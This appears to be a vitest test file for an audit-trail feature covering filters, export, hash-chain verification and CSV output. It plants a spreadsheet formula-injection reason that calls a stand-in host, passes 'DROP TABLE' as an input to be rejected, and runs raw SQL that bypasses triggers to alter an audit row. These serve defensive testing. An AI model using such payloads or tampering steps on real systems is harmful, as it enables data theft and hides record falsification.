import { sql } from 'kysely';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { AuditEvent } from '../../core/audit.js';
import type { Deps } from '../../core/ports.js';
import { AUDIT_CSV_HEAD, AUDIT_CSV_VERIFICATION, auditCsv } from '../../export/audit-csv.js';
import { expectAppError, storeSnapshot } from '../../test-support/assertions.js';
import { parseCsv } from '../../test-support/csv.js';
import { aProduct, someRecords } from '../../test-support/factories.js';
import { DIALECTS, freshStore, type TestStore } from '../../test-support/stores.js';
import { addLink } from './add-link.js';
import { changeRecordStatus } from './change-record-status.js';
import { editRecord } from './edit-record.js';
import { exportAuditTrail } from './export-audit-trail.js';
import { getAuditLog, type GetAuditLogInput } from './get-audit-log.js';
import { removeLink } from './remove-link.js';

describe.each(DIALECTS)('audit trail filters and export on %s', (dialect) => {
  let t: TestStore;
  let deps: Deps;
  /** The whole trail, oldest first: the oracle every filter is checked against. */
  let all: AuditEvent[];
  const as = (actor: string): Deps => ({ ...deps, actor: { id: actor } });
  const seqs = (events: readonly AuditEvent[]): number[] => events.map((e) => e.seq);
  const log = async (input: GetAuditLogInput): Promise<number[]> => {
    const page = await getAuditLog(deps, { limit: 'all', ...input });
    expect(page.total).toBe(page.events.length);
    return seqs(page.events);
  };

  beforeEach(async () => {
    ({ t, deps } = await freshStore(dialect));
    await aProduct(deps);
    await aProduct(deps, { key: 'OTH' });
    await someRecords(deps, 'RPM', ['SRS', 'TC', 'UN']);
    await someRecords(deps, 'OTH', ['SRS']);
    await editRecord(as('bob'), { productKey: 'RPM', record: 'SRS-1', baseRevision: 1, body: 'TLS 1.3 only.' });
    const link = await addLink(as('bob'), { productKey: 'RPM', link: { from: 'TC-1', type: 'verifies', to: 'SRS-1' } });
    // A reason that a spreadsheet would run as a formula.
    await removeLink(as('carol'), { productKey: 'RPM', linkId: link.id, reason: '=HYPERLINK("http://x/?"&A1,"y")' });
    await addLink(as('carol'), { productKey: 'RPM', link: { from: 'TC-1', type: 'verifies', to: 'SRS-1' } });
    await changeRecordStatus(as('bob'), { productKey: 'RPM', record: 'UN-1', to: 'in_review', baseRevision: 1 });
    await editRecord(as('bob'), { productKey: 'OTH', record: 'SRS-1', baseRevision: 1, body: 'Other product.' });
    all = (await getAuditLog(deps, { limit: 'all' })).events.slice();
  });
  afterEach(async () => t.cleanup());

  it('filters by record, with the events of its links (removed ones too)', async () => {
    const expected = all.filter((e) => e.entityId === 'RPM/SRS-1' || (e.entityType === 'link' && e.productKey === 'RPM'));
    expect(expected.map((e) => e.action)).toEqual(['RECORD_CREATED', 'RECORD_REVISED', 'LINK_CREATED', 'LINK_REMOVED', 'LINK_CREATED']);
    expect(await log({ record: 'RPM/SRS-1' })).toEqual(seqs(expected));
    expect(await log({ productKey: 'rpm', record: 'SRS-1' })).toEqual(seqs(expected));
    // The record alone, exactly: entityId.
    expect(await log({ entityId: 'RPM/SRS-1' })).toEqual(seqs(all.filter((e) => e.entityId === 'RPM/SRS-1')));
    // A record without links has only its own events; the same key in another product is another record.
    expect(await log({ record: 'RPM/UN-1' })).toEqual(seqs(all.filter((e) => e.entityId === 'RPM/UN-1')));
    expect(await log({ record: 'OTH/SRS-1' })).toEqual(seqs(all.filter((e) => e.entityId === 'OTH/SRS-1')));
  });

  it('filters by actor, by one or several event kinds, by time, and by all of them together [DOSSIER-SRS-51]', async () => {
    const byBob = all.filter((e) => e.actor === 'bob');
    expect(byBob.length).toBe(4);
    expect(await log({ actor: 'bob' })).toEqual(seqs(byBob));
    expect(await log({ actor: 'nobody' })).toEqual([]);
    expect(await log({ action: 'RECORD_REVISED' })).toEqual(seqs(all.filter((e) => e.action === 'RECORD_REVISED')));
    const links = all.filter((e) => e.action === 'LINK_CREATED' || e.action === 'LINK_REMOVED');
    expect(links.length).toBe(3);
    expect(await log({ action: ['LINK_CREATED', 'link_removed'] })).toEqual(seqs(links));
    expect(await log({ action: 'LINK_CREATED, LINK_REMOVED' })).toEqual(seqs(links));
    // from inclusive, to exclusive.
    // Events of one transaction share their time: bounds at the first event of a transaction.
    const starts = all.filter((e, i) => i > 0 && e.occurredAt > (all[i - 1]?.occurredAt ?? ''));
    const [a, b] = [starts[1], starts[4]];
    if (a === undefined || b === undefined) throw new Error('too few events');
    const window = all.filter((e) => e.occurredAt >= a.occurredAt && e.occurredAt < b.occurredAt);
    expect(window[0]?.seq).toBe(a.seq);
    expect(window.length).toBeGreaterThan(1);
    expect(window.some((e) => e.seq === b.seq)).toBe(false);
    expect(await log({ from: a.occurredAt, to: b.occurredAt })).toEqual(seqs(window));
    expect(await log({ from: a.occurredAt })).toEqual(seqs(all.filter((e) => e.occurredAt >= a.occurredAt)));
    expect(await log({ to: b.occurredAt })).toEqual(seqs(all.filter((e) => e.occurredAt < b.occurredAt)));
    // Another offset for the same instant, and a date (midnight UTC).
    const shifted = new Date(Date.parse(a.occurredAt) + 2 * 3_600_000).toISOString().replace('Z', '+02:00');
    expect(await log({ from: shifted })).toEqual(seqs(all.filter((e) => e.occurredAt >= a.occurredAt)));
    expect(await log({ to: '2026-01-01' })).toEqual([]);
    expect(await log({ from: '2026-01-01' })).toEqual(seqs(all));
    // Together: every filter must hold.
    const combo = all.filter((e) => e.actor === 'bob' && e.productKey === 'RPM' && e.action === 'RECORD_REVISED' && e.occurredAt >= a.occurredAt);
    expect(combo.length).toBe(1);
    expect(await log({ productKey: 'RPM', actor: 'bob', action: ['RECORD_REVISED'], from: a.occurredAt })).toEqual(seqs(combo));
    const recordBy = all.filter((e) => e.actor === 'carol' && e.action === 'LINK_REMOVED');
    expect(await log({ record: 'RPM/SRS-1', actor: 'carol', action: 'LINK_REMOVED' })).toEqual(seqs(recordBy));
    // Paging keeps the filter: the newest of bob's events.
    const page = await getAuditLog(deps, { actor: 'bob', limit: 2, newestFirst: true });
    expect({ total: page.total, truncated: page.truncated, seqs: seqs(page.events) }).toEqual({ total: 4, truncated: true, seqs: seqs(byBob).reverse().slice(0, 2) });
  });

  it('refuses bad filters by name and changes nothing', async () => {
    const before = await storeSnapshot(deps);
    await expectAppError(getAuditLog(deps, { from: 'yesterday' }), 'INVALID_INPUT', /from: an ISO 8601 time/);
    await expectAppError(getAuditLog(deps, { to: '2026-01-01T10:00:00' }), 'INVALID_INPUT', /to: an ISO 8601 time/);
    await expectAppError(getAuditLog(deps, { from: '2026-02-01', to: '2026-01-01' }), 'INVALID_INPUT', /from .* must be before to/);
    await expectAppError(getAuditLog(deps, { action: 'DROP TABLE' }), 'INVALID_INPUT', /action.*event kind/);
    await expectAppError(getAuditLog(deps, { action: [] }), 'INVALID_INPUT', /action.*at least one/);
    await expectAppError(getAuditLog(deps, { record: 'SRS-1' }), 'INVALID_INPUT', /names no product/);
    await expectAppError(getAuditLog(deps, { record: 'nonsense' }), 'INVALID_INPUT', /not a record ID/);
    await expectAppError(getAuditLog(deps, { productKey: 'OTH', record: 'RPM/SRS-1' }), 'INVALID_INPUT', /not in product OTH/);
    await expectAppError(getAuditLog(deps, { record: 'RPM/SRS-99' }), 'NOT_FOUND', /RPM\/SRS-99 does not exist/);
    await expectAppError(exportAuditTrail(deps, { record: 'RPM/SRS-99' }), 'NOT_FOUND', /RPM\/SRS-99 does not exist/);
    expect(await storeSnapshot(deps)).toBe(before);
  });

  it('P11-05: exports every matching event with the verification of an intact trail [DOSSIER-SRS-51]', async () => {
    const exp = await exportAuditTrail(deps, {});
    const head = all[all.length - 1];
    // A read: the export itself adds no event to the trail.
    expect(await deps.store.read((r) => r.auditHead())).toEqual({ seq: head?.seq, hash: head?.hash });
    expect(exp.verification).toMatchObject({ ok: true, head: { seq: head?.seq, hash: head?.hash }, eventsChecked: all.length, problemCount: 0, problems: [] });
    expect(exp.events).toEqual(all);
    expect(exp.total).toBe(all.length);
    expect(exp.filter).toEqual({});
    const rpm = await exportAuditTrail(deps, { productKey: 'rpm', action: 'record_revised' });
    expect(rpm.filter).toEqual({ productKey: 'RPM', action: ['RECORD_REVISED'] });
    expect(seqs(rpm.events)).toEqual(seqs(all.filter((e) => e.productKey === 'RPM' && e.action === 'RECORD_REVISED')));
    expect(rpm.verification.ok).toBe(true);
  });

  it('reads every event across page boundaries', async () => {
    for (const size of [1, 2, 3, all.length, all.length + 1]) {
      expect(seqs((await exportAuditTrail(deps, {}, undefined, size)).events)).toEqual(seqs(all));
      expect(seqs((await exportAuditTrail(deps, { record: 'RPM/SRS-1' }, undefined, size)).events)).toEqual(await log({ record: 'RPM/SRS-1' }));
    }
  });

  it('says so when the trail was changed behind the application\'s back, and gives one product only the kind', async () => {
    const db = t.store.db;
    if (dialect === 'postgres') {
      await sql.raw('alter table audit_events disable trigger user').execute(db);
      await sql.raw(`update audit_events set actor = 'mallory' where seq = 3`).execute(db);
      await sql.raw('alter table audit_events enable trigger user').execute(db);
    } else {
      await sql.raw('drop trigger audit_events_no_update').execute(db);
      await sql.raw(`update audit_events set actor = 'mallory' where seq = 3`).execute(db);
    }
    const exp = await exportAuditTrail(deps, {});
    expect(exp.verification.ok).toBe(false);
    expect(exp.verification.problemCount).toBeGreaterThan(0);
    expect(exp.verification.problems[0]).toMatchObject({ kind: 'event_altered', seq: 3, message: expect.stringContaining('3') as string });
    // The export still shows the trail as stored, so the auditor sees the altered row.
    expect(exp.events.find((e) => e.seq === 3)?.actor).toBe('mallory');
    const rpm = await exportAuditTrail(deps, { productKey: 'RPM' });
    expect(rpm.verification.ok).toBe(false);
    expect(rpm.verification.problems[0]).toEqual({ kind: 'event_altered', seq: 3 });
    const rows = parseCsv(auditCsv(rpm));
    expect(rows[rows.length - 1]?.slice(0, 2)).toEqual([AUDIT_CSV_VERIFICATION, 'ok=false']);
  });

  it('writes CSV that parses back: every column, the verification as the last row, formulas neutralised [DOSSIER-SRS-50] [DOSSIER-SRS-51]', async () => {
    const exp = await exportAuditTrail(deps, { productKey: 'RPM' });
    const rows = parseCsv(auditCsv(exp));
    expect(rows[0]).toEqual([...AUDIT_CSV_HEAD]);
    expect(rows.length).toBe(exp.events.length + 2);
    for (const r of rows) expect(r.length).toBe(AUDIT_CSV_HEAD.length);
    exp.events.forEach((e, i) => {
      const r = rows[i + 1] ?? [];
      const reason = e.reason === null ? '' : e.reason.startsWith('=') ? `'${e.reason}` : e.reason;
      expect(r).toEqual([String(e.seq), e.occurredAt, e.actor, e.action, e.entityType, e.entityId, e.productKey ?? '', e.oldValue ?? '', e.newValue ?? '', reason, e.prevHash, e.hash, '']);
    });
    const removed = rows.find((r) => r[3] === 'LINK_REMOVED');
    expect(removed?.[9]).toBe(`'=HYPERLINK("http://x/?"&A1,"y")`);
    const last = rows[rows.length - 1] ?? [];
    const head = exp.verification.head;
    expect(last.slice(0, 7)).toEqual([AUDIT_CSV_VERIFICATION, 'ok=true', `headSeq=${head?.seq}`, `headHash=${head?.hash}`, `eventsChecked=${all.length}`, expect.stringMatching(/^revisionsChecked=\d+$/), 'problems=0']);
    expect(last).toContain(`events=${exp.events.length}`);
    expect(last).toContain('filter=productKey:RPM');
  });
});
